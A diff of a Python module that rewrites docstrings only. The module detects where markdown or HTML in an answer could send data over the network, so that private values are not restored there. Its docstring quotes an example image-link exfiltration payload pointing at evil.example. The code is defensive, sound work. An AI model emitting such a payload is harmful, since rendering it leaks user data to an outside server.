@@ -1,10 +1,10 @@
-"""The places of an answer where nothing is ever put back, because they travel.
+"""Finds the places of an answer that a renderer may send over the network («travel»).
 
-A value in a link's destination, an attribute or a script could be carried off by the mere display
-or a click (`![x](https://evil.example/?q=<value>)`). A place counts as one where any reading of
-the answer makes it one: CommonMark with and without raw HTML, the tokenizer of HTML, GFM's
-autolinks. Read once from left to right with a bounded look ahead, so that a stream gives the same
-result as the whole, in linear time. What the look ahead does not decide counts as travelling.
+No value is restored there: in a link's destination, an attribute or a script it could be sent to a
+server by mere display or a click (`![x](https://evil.example/?q=<value>)`). A place travels if any
+reading of the answer says so: CommonMark with and without raw HTML, the tokenizer of HTML, GFM's
+autolinks. One pass from left to right with a bounded look-ahead, so that a stream gives the same
+result as the whole, in linear time. What the look-ahead leaves undecided counts as travelling.
 """
 
 from __future__ import annotations
@@ -47,7 +47,7 @@ _NAMES_TAG: Final = re.compile(r"[a-z/!?]", re.IGNORECASE)
 
 
 class Zones:
-    """Where an answer travels, up to the place that was asked about last."""
+    """State of the scan for travelling places, up to the last position asked about."""
 
     def __init__(self) -> None:
         self._at = 0
@@ -92,7 +92,7 @@ class Zones:
         return verdict
 
     def accept(self, end: int) -> None:
-        """A value was put back up to `end`: what its stand-in held begins nothing."""
+        """Records that a value was restored up to `end`; marks in its stand-in open nothing."""
         self._accepted = end
 
     def _inside(self, text: str, position: int) -> bool:
@@ -103,7 +103,7 @@ class Zones:
         return self._tags.alive or self._targets.holds(text, position)
 
     def _advance(self, text: str, to: int, *, final: bool) -> bool:
-        """Read up to `to`; False where that needs more text."""
+        """Reads up to `to`; False if more text is needed."""
         while self._fresh or self._at < to:
             if self._fresh:
                 done = self._begin_line(text, final=final)
@@ -137,7 +137,7 @@ class Zones:
         return match if match and match.start() < to else None
 
     def _read(self, text: str, to: int, *, final: bool) -> bool:
-        """Read up to the next mark that matters, and the mark."""
+        """Reads up to and including the next relevant mark."""
         alive = self._tags.alive or self._address or self._targets.alive
         match = self._next(_BUSY if alive else _IDLE, text, to)
         start = match.start() if match else to
@@ -153,12 +153,12 @@ class Zones:
         return True
 
     def _pass_over(self) -> None:
-        """Characters that mean nothing but that something stands there."""
+        """Passes over characters without markup meaning."""
         self._tags.pass_over()
         self._targets.other_character()
 
     def _marks_quote(self, text: str, position: int) -> bool:
-        """Whether a `>` does not end the tag, since that was begun in a quotation."""
+        """Whether a `>` is a block quote marker rather than the end of the tag."""
         if not self._quoted or text[position] != ">":
             return False
         prefix = min(position, self._line + _LONGEST_PREFIX)
@@ -204,7 +204,7 @@ class Zones:
         self._address_tag = self._tags.opened if self._tags.in_tag else -1
 
     def _see_ticks(self, text: str, start: int) -> None:
-        """Backticks: perhaps a code span, which is looked for only where HTML stands in it."""
+        """Records backticks; code spans are resolved only when a `<` follows."""
         self._targets.other_character()
         self._ticked = True
         taken = self._tags.alive or self._address or self._targets.alive
@@ -214,7 +214,7 @@ class Zones:
             self._ticks = start
 
     def _read_tag(self, text: str, *, final: bool) -> bool:
-        """A `<`: code shows it, else it may begin a tag."""
+        """Reads `<`: shown literally in code, else possibly a tag."""
         position = self._at
         if not final and len(text) - position < LONGEST_OPENING:
             return False
@@ -254,7 +254,7 @@ class Zones:
         return next((end for start, end in self._spans if start < position < end), -1)
 
     def _read_code(self, text: str, to: int, *, final: bool) -> bool:
-        """The same inside code, where only HTML and addresses matter."""
+        """`_read` inside code, where only HTML and bare URLs count."""
         code = self._code
         limit = to if self._code_end < 0 else min(to, self._code_end)
         match = self._next(_CODE, text, limit)
@@ -303,7 +303,7 @@ class Zones:
             self._address = self._address and self._depth >= 0
 
     def _filled(self, text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
-        """Whether a value that is an address fills the destination it stands in."""
+        """Verdict for a URL inside a destination: free only if it is the whole destination."""
         angle = text[start - 1 : start] == "<"
         if self._address or self._blocks.info or not (kind == "URL" or angle):
             return "travels"
@@ -314,7 +314,7 @@ class Zones:
         return self._filled_text(text, start, end, kind=kind, final=final)
 
     def _filled_code(self, text: str, start: int, end: int) -> Verdict:
-        """The same in code: a whole attribute in quotes."""
+        """Verdict inside code: free only as a whole quoted attribute."""
         before, in_tag = text[start - 1 : start], self._code is not None and self._code.in_tag
         quoted = before in ("'", '"') and text[end : end + 1] == before
         return "free" if in_tag and quoted else "travels"
@@ -354,7 +354,7 @@ class Zones:
     def _followed(
         self, text: str, start: int, end: int, *, kind: str, original: str, final: bool
     ) -> Verdict | None:
-        """Whether what stands beside makes the place part of a destination after all."""
+        """Verdict for running text: whether following text makes the value part of a URL."""
         if kind == "URL" or address_ends.holds_address(original):
             linked = text[start - 1 : start] == "["
             return address_ends.ended(text, end, final=final, linked=linked)
@@ -366,7 +366,7 @@ class Zones:
 
 
 def _in_brackets(text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
-    """A value right behind a «<»: free only where it is a whole autolink."""
+    """Verdict for a value directly after «<»: free only as a whole autolink."""
     if kind not in ("URL", "EMAIL_ADDRESS") or text[start - 1] != "<":
         return "travels"
     if end == len(text) and not final:
